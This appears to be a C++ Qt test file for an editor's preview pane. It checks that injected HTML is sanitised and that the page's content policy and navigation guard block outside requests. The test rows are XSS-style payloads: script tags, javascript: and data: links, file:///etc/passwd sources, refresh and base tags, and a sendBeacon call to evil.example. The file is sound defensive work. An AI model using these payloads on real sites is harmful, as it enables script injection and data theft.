// SPDX-License-Identifier: MIT
// What is taken out of a stranger's page, rule by rule, and that each of the walls behind the cleaning stands by
// itself.
#ifndef Q_MOC_RUN // which loses count of the brackets in the scripts
#include "attacks/hand.h"
#include "pagemaker.h"
#include "preview/previewpage.h"
#include "previewprobe.h"
#endif

#include <QTemporaryDir>

using namespace galley;
using test::makePage;
using test::PreviewProbe;

namespace
{

struct Rule {
    const char* name;
    const char* html;
    const char* gone;      ///< a selector that finds nothing afterwards
    const char* kept = ""; ///< one that finds something
};

/// In a post. Each row needs another rule of clean.js or another word of its lists.
const Rule postRules[] = {
    {"script", "<p>a</p><script>1</script>", "script"},
    {"script in a drawing", "<svg><script>1</script><rect width=\"5\" height=\"5\"/></svg>", "svg script", "svg rect"},
    {"event attribute", "<p onclick=\"1\" class=\"k\">a</p>", "[onclick]", "p.k"},
    {"event attribute in a drawing", "<svg onload=\"1\"><g onbegin=\"1\"></g></svg>", "[onload], [onbegin]", "svg g"},
    {"http-equiv", "<meta http-equiv=\"refresh\" content=\"0\"><p>a</p>", "article meta"},
    {"base", "<base href=\"https://evil.example/\"><p>a</p>", "base"},
    {"noscript", "<noscript><p class=\"n\">a</p></noscript>", "noscript, .n"},
    {"template", "<template><p>a</p></template>", "template"},
    {"iframe", "<iframe src=\"https://video.example/1\"></iframe>", "iframe",
     "a.galley-embed[href*=\"video.example\"]"},
    {"object", "<object data=\"https://video.example/1\"></object>", "object", "a.galley-embed"},
    {"embed", "<embed src=\"https://video.example/1\">", "embed", "a.galley-embed"},
    {"embed of a script address", "<iframe src=\"javascript:1\"></iframe>", "iframe, a.galley-embed[href]",
     "a.galley-embed"},
    {"form", "<form action=\"https://evil.example/\"><p class=\"k\">words</p></form>", "article form", "p.k"},
    {"text field", "<p>a <input name=\"password\"> b</p>", "article input"},
    {"text area and choices", "<textarea>a</textarea><select><option>b</option></select>", "textarea, select, option"},
    {"button", "<button formaction=\"https://evil.example/\"><b class=\"k\">press</b></button>", "button, [formaction]",
     "b.k"},
    {"task checkbox", "<ul><li><input type=\"checkbox\" checked> done</li></ul>", "article input:enabled",
     "li input[type=checkbox]:disabled"},
    {"checkbox of a form elsewhere", "<p><input type=\"checkbox\" form=\"f\"></p>", "[form]", "input"},
    {"style element", "<style>body { display: none }</style><p>a</p>", "article style"},
    {"style sheet link", "<link rel=\"stylesheet\" href=\"/assets/a.css\"><p>a</p>", "article link"},
    {"title of the page", "<title>other</title><p>a</p>", "article title"},
    {"unknown element", "<blink class=\"b\"><p class=\"k\">a</p></blink>", "blink", "p.k"},
    {"element with a dash stays", "<x-note><p class=\"k\">a</p></x-note>", "script", "x-note p.k"},
    {"comment", "<p>a<!-- said in secret --></p>", "script", "p"},
    {"position fixed", "<p style=\"position: fixed; color: red\">a</p>", "[style*=position]", "[style*=color]"},
    {"position absolute", "<p style=\"position: absolute\">a</p>", "[style*=position]"},
    {"position sticky", "<p style=\"position: sticky\">a</p>", "[style*=position]"},
    {"position relative stays", "<p style=\"position: relative; left: 5px\">a</p>", "script", "[style*=relative]"},
    {"position relative with a long way", "<p style=\"position: relative; top: -4000px\">a</p>", "[style*=top]"},
    {"long way in em", "<p style=\"position: relative; top: -90em\">a</p>", "[style*=top]"},
    {"negative margin", "<p style=\"margin-top: -4000px\">a</p>", "[style*=margin]"},
    {"width of the window", "<p style=\"width: 100vw; height: 100vh\">a</p>", "[style*=width], [style*=height]"},
    {"picture in a style", "<p style=\"background: url(https://evil.example/a.png); color: red\">a</p>", "[style*=url]",
     "[style*=color]"},
    {"picture behind the words",
     "<p style=\"background-color: red; background-image: linear-gradient(red, blue)\">a</p>", "[style*=image]",
     "[style*=color]"},
    {"list picture", "<ul style=\"list-style: url(https://evil.example/a.png)\"><li>a</li></ul>", "[style*=url]"},
    {"variable", "<p style=\"--a: fixed; color: var(--a)\">a</p>", "[style*=\"--a\"]"},
    {"order over the page", "<p style=\"z-index: 9; color: red\">a</p>", "[style*=z-index]", "[style*=color]"},
    {"moved by a transform", "<p style=\"transform: translateY(-900px)\">a</p>", "[style*=transform]"},
    {"escaped style", "<p style=\"p\\6fsition: fixed\">a</p>", "[style]"},
    {"display contents", "<p style=\"display: contents\">a</p>", "[style*=display]"},
    {"link that is a script", "<p><a class=\"k\" href=\"javascript:1\">a</a></p>", "a[href]", "a.k"},
    {"link that is a script, written oddly", "<p><a class=\"k\" href=\" java&#9;script:1\">a</a></p>", "a[href]",
     "a.k"},
    {"link that holds a page", "<p><a class=\"k\" href=\"data:text/html,a\">a</a></p>", "a[href]", "a.k"},
    {"link to a file", "<p><a class=\"k\" href=\"file:///etc/passwd\">a</a></p>", "a[href]", "a.k"},
    {"link that tells others", "<p><a href=\"/a\" ping=\"https://evil.example/\" target=\"_top\" download>a</a></p>",
     "[ping], [target], [download]", "a[href]"},
    {"quote from a script", "<blockquote cite=\"javascript:1\"><p>a</p></blockquote>", "[cite]"},
    {"picture from a file", "<p><img class=\"k\" src=\"file:///etc/passwd\"></p>", "img[src]", "img.k"},
    {"picture that is a page", "<p><img class=\"k\" src=\"data:text/html,a\"></p>", "img[src]", "img.k"},
    {"picture in the text stays", "<p><img src=\"data:image/png;base64,AAAA\"></p>", "script", "img[src]"},
    {"set of pictures with a file", "<p><img class=\"k\" srcset=\"a.png 1x, file:///etc/passwd 2x\"></p>", "[srcset]",
     "img.k"},
    {"picture named like the document's own", "<p><img class=\"k\" name=\"body\" src=\"a.png\"></p>", "[name]",
     "img.k"},
    {"text that can be edited", "<p contenteditable autofocus>a</p>", "[contenteditable], [autofocus]", "p"},
    {"page in an attribute", "<p srcdoc=\"a\" is=\"x-a\">a</p>", "[srcdoc], [is]", "p"},
    {"HTML inside a drawing", "<svg><foreignObject><p class=\"f\">a</p></foreignObject><rect/></svg>",
     "foreignObject, .f", "rect"},
    {"animation",
     "<svg><a><set attributeName=\"href\" to=\"javascript:1\"/></a><rect><animate attributeName=\"x\"/></rect></svg>",
     "svg a, set, animate", "svg"},
    {"picture inside a drawing", "<svg><image href=\"https://evil.example/a.png\"/><rect/></svg>", "image", "rect"},
    {"shape from elsewhere", "<svg><use class=\"k\" href=\"https://evil.example/a.svg#a\"/></svg>", "use[href]"},
    {"paint from elsewhere", "<svg><rect class=\"k\" fill=\"url(https://evil.example/a.svg#a)\"/></svg>", "[fill]",
     "rect.k"},
    {"paint of its own stays", "<svg><rect fill=\"url(#a)\"/></svg>", "script", "rect[fill]"},
    {"link in a formula", "<math><mi href=\"javascript:1\">x</mi></math>", "mi[href]", "mi"},
    {"uses of uses",
     "<svg><defs><g id=\"a\"><rect/></g><g id=\"b\"><use href=\"#a\"/></g></defs><use class=\"n\" href=\"#b\"/></svg>",
     "use.n", "rect"},
};

/// In a layout's head.
const Rule headRules[] = {
    {"script", "<script>1</script>", "script"},
    {"refresh", "<meta http-equiv=\"refresh\" content=\"9;url=https://evil.example/\">", "meta[http-equiv=refresh]"},
    {"other policy", "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src *\">",
     "meta[content=\"img-src *\"]"},
    {"base", "<base href=\"https://evil.example/\">", "base"},
    {"noscript", "<noscript><link rel=\"stylesheet\" href=\"/n.css\"></noscript>", "noscript"},
    {"preload", "<link rel=\"preload\" as=\"image\" href=\"https://evil.example/a.png\">", "link"},
    {"name look-up", "<link rel=\"dns-prefetch\" href=\"//evil.example\">", "link"},
    {"style sheet stays", "<link rel=\"stylesheet\" href=\"/a.css\" onload=\"1\">", "[onload]", "link[rel=stylesheet]"},
    {"style element stays", "<style>p { color: red }</style>", "script", "head style"},
    {"description stays", "<meta name=\"description\" content=\"d\">", "script", "meta[name=description]"},
};

} // namespace

class TestPreviewRules : public QObject
{
    Q_OBJECT

    std::unique_ptr<PreviewProbe> m_probe;
    QTemporaryDir m_home;
    PageAddress m_site;

    bool has(const char* selector)
    {
        const QString script = QStringLiteral("document.querySelector(%1) !== null").arg(scriptString(selector));
        return m_probe->ask(script).toBool();
    }

    void check()
    {
        QFETCH(QString, gone);
        QFETCH(QString, kept);
        QVERIFY2(!has(gone.toUtf8().constData()),
                 qPrintable(m_probe->ask(QStringLiteral("document.documentElement.outerHTML")).toString()));
        QVERIFY2(kept.isEmpty() || has(kept.toUtf8().constData()),
                 qPrintable(m_probe->ask(QStringLiteral("document.documentElement.outerHTML")).toString()));
        QVERIFY(
            m_probe
                ->ask(QStringLiteral(
                    "(() => { const walker = document.createTreeWalker(document, NodeFilter.SHOW_COMMENT);"
                    "while (walker.nextNode()) if (!galley.isMark(walker.currentNode)) return false; return true })()"))
                .toBool());
    }

    template <std::size_t count>
    static void addRows(const Rule (&rules)[count])
    {
        QTest::addColumn<QByteArray>("html");
        QTest::addColumn<QString>("gone");
        QTest::addColumn<QString>("kept");
        for (const Rule& rule : rules)
            QTest::newRow(rule.name) << QByteArray(rule.html) << QString::fromLatin1(rule.gone)
                                     << QString::fromLatin1(rule.kept);
    }

    /// What the page's own policy held back while `script` ran, in the preview's world.
    QStringList violations(const QString& script)
    {
        m_probe->ask(QStringLiteral("globalThis.held = []; addEventListener('securitypolicyviolation', (event) => "
                                    "held.push(event.effectiveDirective)); %1; 0")
                         .arg(script));
        QTest::qWait(150);
        return m_probe->ask(QStringLiteral("held")).toStringList();
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_site.siteRoot = m_home.path();
        m_site.url = QStringLiteral("/post.html");
        m_site.file = m_home.path() + QStringLiteral("/post.md");
        m_probe = std::make_unique<PreviewProbe>();
        QVERIFY(m_probe->show(makePage({"<p>before</p>"}), m_site));
    }
    void cleanupTestCase() { m_probe.reset(); }

    void postIsCleaned_data() { addRows(postRules); }
    void postIsCleaned()
    {
        QFETCH(QByteArray, html);
        QVERIFY(m_probe->show(makePage({"<p>before</p>", html.toStdString(), "<p>after</p>"}), m_site));
        check();
    }

    /// The blocks were not found in the page, so all of the body counts as the post's.
    void postWithoutBlocksIsCleaned_data() { addRows(postRules); }
    void postWithoutBlocksIsCleaned()
    {
        QFETCH(QByteArray, html);
        RenderedPage page;
        page.url = "/post.html";
        page.html = "<!DOCTYPE html><html><body><article>" + html.toStdString() + "</article></body></html>";
        QVERIFY(m_probe->show(page, m_site));
        check();
    }

    void layoutIsCleaned_data() { addRows(headRules); }
    void layoutIsCleaned()
    {
        QFETCH(QByteArray, html);
        test::Shell shell;
        shell.head.insert(shell.head.find("</head>"), html.toStdString());
        QVERIFY(m_probe->show(makePage({"<p>a</p>"}, shell), m_site));
        check();
        QVERIFY(m_probe->ask(QStringLiteral("document.head.firstElementChild.httpEquiv === 'Content-Security-Policy'"))
                    .toBool());
    }

    /// The second wall: what the cleaning would have let through, the policy of the page stops.
    void policyHoldsBackWhatIsNotTheSites_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("directive");
        const auto row = [](const char* name, const char* script, const char* directive) {
            QTest::newRow(name) << QString::fromLatin1(script) << QString::fromLatin1(directive);
        };
        row("image",
            "const one = document.createElement('img'); one.src = 'https://evil.example/a.png'; "
            "document.body.append(one)",
            "img-src");
        row("style sheet",
            "const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = "
            "'https://evil.example/a.css'; document.head.append(one)",
            "style-src-elem");
        row("font",
            "document.fonts.add(new FontFace('f', 'url(https://evil.example/a.woff)')); document.fonts.forEach((f) => "
            "f.load().catch(() => 0))",
            "font-src");
        row("frame",
            "const one = document.createElement('iframe'); one.src = 'https://evil.example/'; "
            "document.body.append(one)",
            "frame-src");
        row("own frame",
            "const one = document.createElement('iframe'); one.src = '/post.html'; document.body.append(one)",
            "frame-src");
        row("object", "const one = document.createElement('object'); one.data = '/a.svg'; document.body.append(one)",
            "object-src");
        row("media",
            "const one = document.createElement('video'); one.src = 'https://evil.example/a.mp4'; "
            "document.body.append(one)",
            "media-src");
        row("base",
            "const one = document.createElement('base'); one.href = 'https://evil.example/'; document.head.append(one)",
            "base-uri");
    }
    void policyHoldsBackWhatIsNotTheSites()
    {
        QFETCH(QString, script);
        QFETCH(QString, directive);
        PageAddress other = m_site;
        other.file += QString::fromLatin1(QTest::currentDataTag()); // a fresh load for each row
        QVERIFY(m_probe->show(makePage({"<p>a</p>"}), other));
        QVERIFY(violations(script).contains(directive));
    }

    /// The third wall: nothing but its kind goes out, even where no policy stands in the page.
    void trustedPage_sendsNothingButWhatPagesAreMadeOf()
    {
        PreviewProbe probe;
        PageAddress address = m_site;
        address.file += QStringLiteral("-trusted");
        QVERIFY(probe.show(makePage({"<p>a</p>"}), address));
        QSignalSpy applied(&probe.pane, &PreviewPane::patchApplied);
        probe.pane.setTrust({true, true, true});
        QVERIFY(applied.count() > 0 || applied.wait(10000));
        QSignalSpy refused(&probe.pane, &PreviewPane::requestRefused);
        QSignalSpy frames(qobject_cast<PreviewPage*>(probe.pane.view()->page()), &PreviewPage::navigationRefused);
        probe.ask(
            QStringLiteral("navigator.sendBeacon('https://evil.example/told', 'x'); const one = "
                           "document.createElement('iframe'); one.src = '/post.html'; document.body.append(one); 0"));
        const auto wasRefused = [&](const QString& url) {
            return std::any_of(refused.begin(), refused.end(),
                               [&](const QList<QVariant>& one) { return one.first().toUrl() == QUrl(url); });
        };
        QTRY_VERIFY(wasRefused(QStringLiteral("https://evil.example/told")));
        QTRY_COMPARE(frames.count(), 1); // not even the site's own pages in a frame
        probe.pane.setTrust({});
    }

    void pageCanNotNavigate()
    {
        auto* page = qobject_cast<PreviewPage*>(m_probe->pane.view()->page());
        QSignalSpy refused(page, &PreviewPage::navigationRefused);
        for (const char* target : {"https://evil.example/", "galley://site/other.html", "data:text/html,a"}) {
            QVERIFY(m_probe->show(makePage({"<p>a</p>"}), m_site));
            const auto before = refused.count();
            m_probe->ask(QStringLiteral("location.href = '%1'; 0").arg(QLatin1String(target)));
            QTest::qWait(100);
            QVERIFY2(refused.count() > before || QByteArray(target).startsWith("data:"), target);
            QCOMPARE(m_probe->ask(QStringLiteral("document.querySelector('p').textContent")).toString(),
                     QStringLiteral("a"));
        }
    }

    /// The guard takes a click before the page's navigation is even asked about.
    void clicksAreTakenByTheGuard_data()
    {
        QTest::addColumn<int>("button");
        QTest::addColumn<int>("modifiers");
        QTest::newRow("left") << int(Qt::LeftButton) << 0;
        QTest::newRow("middle") << int(Qt::MiddleButton) << 0;
        QTest::newRow("Ctrl") << int(Qt::LeftButton) << int(Qt::ControlModifier);
        QTest::newRow("Shift") << int(Qt::LeftButton) << int(Qt::ShiftModifier);
    }
    void clicksAreTakenByTheGuard()
    {
        QFETCH(int, button);
        QFETCH(int, modifiers);
        QVERIFY(m_probe->show(makePage({"<p><a href=\"https://example.org/\">a link that is long enough</a></p>"}),
                              m_site));
        QTest::qWait(100);
        auto* page = qobject_cast<PreviewPage*>(m_probe->pane.view()->page());
        QSignalSpy refused(page, &PreviewPage::navigationRefused),
            outside(&m_probe->pane, &PreviewPane::requestRefused);
        m_probe->pane.setLinkOpener([](const QUrl&) {});
        m_probe->ask(QStringLiteral("globalThis.taken = []; for (const kind of ['click', 'auxclick']) "
                                    "addEventListener(kind, (event) => taken.push(event.defaultPrevented)); 0"));
        const double y =
            m_probe->ask(QStringLiteral("document.querySelector('a').getBoundingClientRect().top + 5")).toDouble();
        test::Hand(m_probe->pane.view())
            .click(QPoint(40, int(y)), Qt::KeyboardModifiers(modifiers), Qt::MouseButton(button));
        QTRY_COMPARE(m_probe->ask(QStringLiteral("taken.at(-1)")).toBool(), true);
        QTest::qWait(100);
        QCOMPARE(refused.count() + outside.count(), 0);
    }

    void formsAndDragsAreTakenByTheGuard()
    {
        test::Shell shell;
        shell.tail.insert(0, "<form action=\"https://evil.example/\"><input name=\"q\"></form>");
        QVERIFY(m_probe->show(makePage({"<p>a</p>"}, shell), m_site));
        const QString prevented =
            QStringLiteral("(() => { const event = new Event('%1', { cancelable: true, bubbles: true });"
                           "(document.querySelector('form') ?? document.body).dispatchEvent(event); return "
                           "event.defaultPrevented })()");
        for (const char* kind : {"submit", "dragstart", "dragover", "drop"})
            QVERIFY2(m_probe->ask(prevented.arg(QLatin1String(kind))).toBool(), kind);
    }

    void permissionsAndDialogs_areRefused()
    {
        QVERIFY(m_probe->show(makePage({"<p>a</p>"}), m_site));
        QVERIFY(!m_probe->ask(QStringLiteral("confirm('really?')")).toBool());
        QVERIFY(m_probe->ask(QStringLiteral("prompt('name?') === null")).toBool());
    }
};

int main(int argc, char** argv)
{
    return test::previewMain<TestPreviewRules>(argc, argv);
}
#include "tst_previewrules.moc"
